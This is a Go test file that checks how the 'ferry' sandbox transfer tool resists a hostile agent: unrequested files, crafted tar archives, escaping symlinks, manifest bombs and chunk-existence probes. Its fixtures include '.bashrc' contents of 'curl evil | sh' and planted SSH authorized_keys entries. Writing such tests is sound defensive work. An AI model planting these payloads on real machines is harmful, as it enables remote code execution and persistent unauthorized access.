package ferry_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/ferry-dev/ferry/transfer"

	"github.com/ferry-dev/ferry"
	"github.com/ferry-dev/ferry/relay/gateway/gatewaytest"
	"github.com/ferry-dev/ferry/relay/openshell"
	"github.com/ferry-dev/ferry/session"
	"github.com/ferry-dev/ferry/session/local"
	"github.com/ferry-dev/ferry/session/s3store"
	"github.com/ferry-dev/ferry/session/s3store/s3test"
	"github.com/ferry-dev/ferry/transfer/agent"
	"github.com/ferry-dev/ferry/transfer/agent/agenttest/hostile"
	"github.com/ferry-dev/ferry/transfer/archive"
)

// hostileBox is sandbox "box" with ferry's cached agent replaced by the
// hostile one, and sandbox "victim", honest, beside it on the same gateway.
type hostileBox struct {
	sb, victim       ferry.Sandbox
	root, victimRoot string
	scenario         string // the planted scenario's path
}

// newHostileBox plants the hostile agent with scenario s in box's own
// TMPDIR, so that no other sandbox (or test) runs it.
func newHostileBox(t *testing.T, s hostile.Scenario, early bool) *hostileBox {
	t.Helper()
	g := gatewaytest.Start(t, gatewaytest.Options{})
	c := g.Client(t, openshell.Config{})
	tmp := t.TempDir()
	g.SandboxEnv(t, c, "box", map[string]string{"TMPDIR": tmp})
	g.SandboxEnv(t, c, "victim", map[string]string{"TMPDIR": t.TempDir()})
	h := &hostileBox{
		sb:         sandboxFor(t, c, transfer.ModeAgent),
		victim:     sandboxFor(t, c, transfer.ModeAgent),
		root:       filepath.Join(g.Root, "box"),
		victimRoot: filepath.Join(g.Root, "victim"),
	}
	h.victim.Name = "victim"
	if early {
		// Remembered as a sandbox whose agent has answered: each
		// connection's first call goes before the hostile hello.
		h.sb.AgentMemory = agent.NewMemory()
		h.sb.AgentMemory.Remember("box", true)
	}
	h.scenario = hostile.Plant(t, tmp, h.sb.Agents, s)
	return h
}

// forDials runs f with connections that wait for the agent's hello, and
// ("early") with connections whose first call goes before it.
func forDials(t *testing.T, f func(t *testing.T, early bool)) {
	for _, early := range []bool{false, true} {
		t.Run(map[bool]string{false: "hello-first", true: "early"}[early], func(t *testing.T) { f(t, early) })
	}
}

// lie makes the next connections answer as s says.
func (h *hostileBox) lie(t *testing.T, s hostile.Scenario) { hostile.Rewrite(t, h.scenario, s) }

// served fails the test unless the hostile agent answered since the last
// call: a case the real agent answered (a reinstall) proves nothing.
func (h *hostileBox) served(t *testing.T) {
	t.Helper()
	n, err := hostile.Served(h.scenario)
	if err != nil || n == 0 {
		t.Fatalf("the hostile agent did not serve (%d, %v): the case ran against another agent", n, err)
	}
}

// wantEntryErr fails unless err matches sentinel and, when entry is set,
// a *archive.EntryError names it.
func wantEntryErr(t *testing.T, err, sentinel error, entry string) {
	t.Helper()
	if err == nil {
		t.Fatalf("succeeded; want %v", sentinel)
	}
	if sentinel != nil && !errors.Is(err, sentinel) {
		t.Fatalf("err = %v; want %v", err, sentinel)
	}
	if entry == "" {
		return
	}
	var ee *archive.EntryError
	if !errors.As(err, &ee) || !strings.Contains(ee.Entry, entry) {
		t.Fatalf("err = %v; want an archive.EntryError naming %q", err, entry)
	}
}

// TestHostileAgentDownload: downloads (cp from the sandbox, pull, the
// artifacts of a run) from an agent that sends names nobody asked for, a
// crafted archive, sparse entries, or stalls. Each fails naming the entry,
// and nothing at or beside the destination changes.
func TestHostileAgentDownload(t *testing.T) { forDials(t, testHostileAgentDownload) }

func testHostileAgentDownload(t *testing.T, early bool) {
	h := newHostileBox(t, hostile.Scenario{}, early)
	write(t, h.root, map[string]string{
		"x/file": "real", "payload/x": "asked for", "payload/.bashrc": "curl evil | sh", "payload/.ssh/authorized_keys": "ssh-ed25519 evil", ".bashrc": "curl evil | sh", ".ssh/authorized_keys": "ssh-ed25519 evil",
		"rascal-meta/meta.json": "{}", "rascal-meta/.bashrc": "curl evil | sh",
	})
	home := t.TempDir()
	write(t, home, map[string]string{".bashrc": "mine", "keep/a": "a"})
	before := tree(t, home)

	t.Run("unrequested-name", func(t *testing.T) {
		for _, extra := range []string{".bashrc", ".ssh"} {
			h.lie(t, hostile.Scenario{GetExtra: []string{extra}})
			// Into a directory, names beside payload; as a new name for
			// payload/x, names beside x. (A new directory takes payload's
			// contents, all of them asked for.)
			for _, dst := range []string{home, filepath.Join(home, "renamed")} {
				src := "payload"
				if strings.HasSuffix(dst, "renamed") {
					src = "payload/x" // a file to a new name: PlaceAs
				}
				_, err := ferry.Download(ctx(t), h.sb, []string{src}, dst, archive.Limits{})
				h.served(t)
				wantEntryErr(t, err, archive.ErrUnrequested, extra)
				sameTree(t, tree(t, home), before)
			}
		}
	})
	t.Run("pull", func(t *testing.T) {
		h.lie(t, hostile.Scenario{GetExtra: []string{".bashrc"}})
		out := filepath.Join(home, "run")
		_, err := ferry.Pull(ctx(t), h.sb, ferry.PullSpec{Out: out})
		h.served(t)
		wantEntryErr(t, err, archive.ErrUnrequested, ".bashrc")
		if _, err := os.Lstat(filepath.Join(out, ".bashrc")); !os.IsNotExist(err) {
			t.Fatalf("pull placed an unrequested name: %v", err)
		}
		noneIn(t, out)
	})
	t.Run("run", func(t *testing.T) {
		h.lie(t, hostile.Scenario{GetExtra: []string{".bashrc"}})
		out := filepath.Join(home, "run")
		res, err := ferry.Run(ctx(t), h.sb, ferry.RunSpec{Argv: []string{"true"}, Out: out})
		h.served(t)
		if err == nil {
			err = res.PullErr
		}
		wantEntryErr(t, err, archive.ErrUnrequested, ".bashrc")
		if _, err := os.Lstat(filepath.Join(out, ".bashrc")); !os.IsNotExist(err) {
			t.Fatalf("run placed an unrequested name: %v", err)
		}
		if err := os.RemoveAll(out); err != nil {
			t.Fatal(err)
		}
	})
	fixtures, err := filepath.Abs(filepath.Join("testdata", "archives"))
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range append(refused, "unrequested-top-level", "unrequested-root") {
		t.Run("archive/"+name, func(t *testing.T) {
			h.lie(t, hostile.Scenario{GetArchive: filepath.Join(fixtures, name+".tar")})
			dsts := []string{home, filepath.Join(home, "new")}
			if strings.HasPrefix(name, "unrequested") {
				// A new directory asks for all of x: only a download into
				// home asks for x alone.
				dsts = dsts[:1]
			}
			for _, dst := range dsts {
				_, err := ferry.Download(ctx(t), h.sb, []string{"x"}, dst, archive.Limits{})
				h.served(t)
				var ee *archive.EntryError
				if err == nil || (!errors.As(err, &ee) && !errors.Is(err, archive.ErrTruncated)) {
					t.Fatalf("err = %v, want an archive.EntryError naming the entry", err)
				}
				sameTree(t, tree(t, home), before)
			}
			out := filepath.Join(home, "pulled")
			if _, err := ferry.Pull(ctx(t), h.sb, ferry.PullSpec{Out: out}); err == nil {
				t.Fatal("pull of a crafted archive succeeded")
			}
			noneIn(t, out)
			sameTree(t, tree(t, home), before)
		})
	}
	t.Run("sparse-meta", func(t *testing.T) {
		h.lie(t, hostile.Scenario{GetArchive: filepath.Join(fixtures, "sparse-meta.tar")})
		out := filepath.Join(home, "pulled")
		_, err := ferry.Pull(ctx(t), h.sb, ferry.PullSpec{Out: out})
		h.served(t)
		wantEntryErr(t, err, archive.ErrUnsupported, "meta.json")
		noneIn(t, out)
	})
	t.Run("stall", func(t *testing.T) {
		h.lie(t, hostile.Scenario{GetStall: true})
		sb := h.sb
		sb.IdleTimeout = 500 * time.Millisecond
		start := time.Now()
		_, err := ferry.Download(ctx(t), sb, []string{"payload"}, filepath.Join(home, "new"), archive.Limits{})
		h.served(t)
		if !errors.Is(err, ferry.ErrIdle) {
			t.Fatalf("err = %v, want ferry.ErrIdle", err)
		}
		if d := time.Since(start); d > 20*time.Second {
			t.Errorf("the stalled download took %v to end", d)
		}
		sameTree(t, tree(t, home), before)
	})
}

// noneIn fails unless the run directory out holds nothing (a refused
// pull writes no artifact, half or whole), and removes it.
func noneIn(t *testing.T, out string) {
	t.Helper()
	if got := tree(t, out); len(got) != 0 {
		t.Fatalf("a refused pull left %s in %s", keys(got), out)
	}
	if err := os.RemoveAll(out); err != nil {
		t.Fatal(err)
	}
}

// TestHostileAgentUpload: an agent that reports a tree other than the one
// it was sent, or stops reading, fails the upload.
func TestHostileAgentUpload(t *testing.T) { forDials(t, testHostileAgentUpload) }

func testHostileAgentUpload(t *testing.T, early bool) {
	h := newHostileBox(t, hostile.Scenario{PutLie: true}, early)
	src := t.TempDir()
	write(t, src, map[string]string{"a/b": "b", "a/c": "c"})
	_, err := ferry.Upload(ctx(t), h.sb, []string{filepath.Join(src, "a")}, "dst")
	h.served(t)
	if !errors.Is(err, archive.ErrDigest) {
		t.Fatalf("upload to a lying agent: err = %v, want archive.ErrDigest", err)
	}
	h.lie(t, hostile.Scenario{PutStall: true})
	sb := h.sb
	sb.IdleTimeout = 500 * time.Millisecond
	_, err = ferry.Upload(ctx(t), sb, []string{filepath.Join(src, "a")}, "dst2")
	h.served(t)
	if !errors.Is(err, ferry.ErrIdle) {
		t.Fatalf("upload to a stalled agent: err = %v, want ferry.ErrIdle", err)
	}
}

// storeKind is a store the session cases run on.
type storeKind struct {
	name string
	open func(t *testing.T) (*session.Store, session.Backend)
}

// hostileStores are a directory store and an S3 one (versitygw).
func hostileStores(t *testing.T) []storeKind {
	return []storeKind{
		{"local", func(t *testing.T) (*session.Store, session.Backend) {
			b, err := local.NewDir(t.TempDir())
			return storeOn(t, b, err), b
		}},
		{"s3", func(t *testing.T) (*session.Store, session.Backend) {
			srv := s3test.Start(t)
			b, err := s3store.New(context.Background(), s3store.Config{
				Endpoint: srv.Endpoint, Bucket: srv.Bucket, Prefix: "ferry", Region: srv.Region,
				AccessKeyID: srv.AccessKey, SecretAccessKey: srv.SecretKey,
			})
			return storeOn(t, b, err), b
		}},
	}
}

// storeOn is a store on b, which err says could not be opened.
func storeOn(t *testing.T, b session.Backend, err error) *session.Store {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
	st, err := session.New(session.Config{Backend: b})
	if err != nil {
		t.Fatal(err)
	}
	return st
}

// objects is every object of the store but its locks, with a digest of
// its content: what "the store is unchanged" compares.
func objects(t *testing.T, b session.Backend) map[string]string {
	t.Helper()
	var names []string
	if err := b.List(ctx(t), "", func(oi session.ObjectInfo) error {
		if !strings.HasPrefix(oi.Name, "locks/") {
			names = append(names, oi.Name)
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	sort.Strings(names)
	m := map[string]string{}
	for _, n := range names {
		rc, err := b.Get(ctx(t), n)
		if err != nil {
			t.Fatal(err)
		}
		h := sha256.New()
		_, err = io.Copy(h, rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		m[n] = hex.EncodeToString(h.Sum(nil))
	}
	return m
}

// randomBytes is n bytes of seed.
func randomBytes(seed uint64, n int) []byte {
	r := rand.New(rand.NewPCG(seed, seed))
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return b
}

// TestHostileAgentSession: an agent that lies in a session save (claims
// another key's chunks, probes for chunks it does not hold, writes what no
// restore accepts, sends frames the store's reader refuses) or in a
// restore gets nothing: the save fails naming the entry or stores only
// what restores, the store is unchanged by a failed save, and the victim
// key restores byte for byte afterwards; on a directory store and on S3.
func TestHostileAgentSession(t *testing.T) {
	for _, sk := range hostileStores(t) {
		t.Run(sk.name, func(t *testing.T) {
			forDials(t, func(t *testing.T, early bool) { testHostileAgentSession(t, sk, early) })
		})
	}
}

func testHostileAgentSession(t *testing.T, sk storeKind, early bool) {
	h := newHostileBox(t, hostile.Scenario{}, early)
	st, b := sk.open(t)
	// The victim: two small files, one chunk each (under the chunker's
	// minimum), so their chunk ids are the SHA-256 of their content.
	secret1, secret2 := randomBytes(1, 3000), randomBytes(2, 2500)
	write(t, h.victimRoot, map[string]string{"sess/secret1": string(secret1), "sess/secret2": string(secret2)})
	if _, err := ferry.SaveSession(ctx(t), h.victim, st, session.SaveSpec{Dir: "sess", Key: "victim"}); err != nil {
		t.Fatal(err)
	}
	id1, id2 := sha256.Sum256(secret1), sha256.Sum256(secret2)
	victimIntact := func(t *testing.T) {
		t.Helper()
		dst := fmt.Sprintf("restored-%d", time.Now().UnixNano())
		if _, err := ferry.RestoreSession(ctx(t), h.victim, st, session.RestoreSpec{Key: "victim", Dir: dst}); err != nil {
			t.Fatalf("restore of the victim key: %v", err)
		}
		for name, want := range map[string][]byte{"secret1": secret1, "secret2": secret2} {
			got, err := os.ReadFile(filepath.Join(h.victimRoot, dst, name))
			if err != nil || !bytes.Equal(got, want) {
				t.Fatalf("the victim's %s after the attack: %v", name, err)
			}
		}
	}
	mine := randomBytes(3, 3000)
	write(t, h.root, map[string]string{"sess/f": string(mine), "sess/one": "x", "sess/c0": "0", "sess/c1": "1", "sess/c2": "2", "sess/c3": "3"})
	if err := os.WriteFile(filepath.Join(h.root, "sess", "zeros"), make([]byte, 8<<20), 0o644); err != nil {
		t.Fatal(err)
	}
	// refused runs one save that must fail as want says and change nothing.
	refused := func(t *testing.T, s hostile.Scenario, want error, entry string) {
		t.Helper()
		h.lie(t, s)
		before := objects(t, b)
		_, err := ferry.SaveSession(ctx(t), h.sb, st, session.SaveSpec{Dir: "sess", Key: "attacker"})
		h.served(t)
		if err == nil {
			t.Fatal("the hostile save succeeded")
		}
		if want != nil && !errors.Is(err, want) {
			t.Fatalf("err = %v, want %v", err, want)
		}
		if entry != "" && !strings.Contains(err.Error(), entry) {
			t.Fatalf("err = %v, want it to name %q", err, entry)
		}
		if after := objects(t, b); !sameObjects(before, after) {
			t.Fatalf("a refused save changed or added to the store's snapshots: %d objects before, %d after", len(before), len(after))
		}
		victimIntact(t)
	}
	hexID := func(id [32]byte) string { return hex.EncodeToString(id[:]) }

	t.Run("claims-another-keys-chunk", func(t *testing.T) {
		refused(t, hostile.Scenario{Claims: []hostile.Claim{{Path: "f", Chunks: []hostile.Chunk{{ID: hexID(id1), Size: 3000}}}}}, nil, "f")
	})
	t.Run("existence-oracle", func(t *testing.T) {
		// Two ids the store holds, two it does not: the host must ask the
		// agent to show all four alike.
		absent1, absent2 := sha256.Sum256([]byte("absent-1")), sha256.Sum256([]byte("absent-2"))
		log := filepath.Join(t.TempDir(), "reads")
		ids := []string{hexID(id1), hexID(absent1), hexID(id2), hexID(absent2)}
		var claims []hostile.Claim
		for i, id := range ids {
			claims = append(claims, hostile.Claim{Path: fmt.Sprintf("c%d", i), Chunks: []hostile.Chunk{{ID: id, Size: 750}}})
		}
		refused(t, hostile.Scenario{Log: log, Claims: claims}, nil, "")
		got, err := os.ReadFile(log)
		if err != nil {
			t.Fatalf("the host asked the agent for no chunk: %v", err)
		}
		for _, id := range ids {
			if !strings.Contains(string(got), id) {
				t.Errorf("the host asked for the absent ids and not for %s, which the store holds: an existence oracle\n%s", id, got)
			}
		}
	})
	t.Run("manifest-bomb", func(t *testing.T) {
		refused(t, hostile.Scenario{Repeats: []hostile.Repeat{{Path: "one", Count: 200_000}}}, session.ErrAgent, "one")
	})
	t.Run("huge-file", func(t *testing.T) {
		// zeros is cut at the chunker's maximum: its first chunk, repeated,
		// claims a file over the restore's 16 GiB limit.
		refused(t, hostile.Scenario{Repeats: []hostile.Repeat{{Path: "zeros", Size: 17 << 30}}}, archive.ErrLimit, "zeros")
	})
	t.Run("absolute-symlink", func(t *testing.T) {
		refused(t, hostile.Scenario{Extra: []hostile.Entry{{Path: "~link", Kind: "symlink", Mode: 0o777, Target: "/etc/passwd"}}}, archive.ErrLinkEscape, "~link")
	})
	t.Run("escaping-symlink", func(t *testing.T) {
		refused(t, hostile.Scenario{Extra: []hostile.Entry{{Path: "~link", Kind: "symlink", Mode: 0o777, Target: "../../outside"}}}, archive.ErrLinkEscape, "~link")
	})
	t.Run("wide-zstd-window", func(t *testing.T) {
		// Frames whose window the store's reader refuses are checked with
		// its rules before anything is kept: the save fails, rather than
		// store what a POSIX restore or verify of the key would refuse.
		// New files' chunks come with the scan; an agent that leaves them
		// out has them fetched. Both ways are checked alike.
		for _, fetched := range []bool{false, true} {
			t.Run(fmt.Sprintf("fetched=%v", fetched), func(t *testing.T) {
				log := filepath.Join(t.TempDir(), "reads")
				refused(t, hostile.Scenario{ZstdWindow: 4 << 20, NoInline: fetched, Log: log}, archive.ErrDigest, "")
				reads, err := os.ReadFile(log)
				if fetched != (err == nil && len(reads) > 0) {
					t.Fatalf("fetched=%v, yet the host's reads were %q (%v): the case ran the other path", fetched, reads, err)
				}
			})
		}
	})
	t.Run("restore-lies", func(t *testing.T) {
		h.lie(t, hostile.Scenario{PutLie: true})
		before := objects(t, b)
		_, err := ferry.RestoreSession(ctx(t), h.sb, st, session.RestoreSpec{Key: "victim", Dir: "from-victim"})
		h.served(t)
		if !errors.Is(err, archive.ErrDigest) {
			t.Fatalf("restore through a lying agent: err = %v, want archive.ErrDigest", err)
		}
		if !sameObjects(before, objects(t, b)) {
			t.Fatal("a restore changed the store")
		}
		victimIntact(t)
	})
}

// sameObjects reports whether the store after holds every object of
// before as it was, and no snapshot more: a failed save may leave chunks
// no snapshot references (prune removes them), nothing else.
func sameObjects(before, after map[string]string) bool {
	for k, v := range before {
		if after[k] != v {
			return false
		}
	}
	for k := range after {
		if _, ok := before[k]; !ok && strings.HasPrefix(k, "snapshots/") {
			return false
		}
	}
	return true
}

var _ = agent.ErrUnavailable
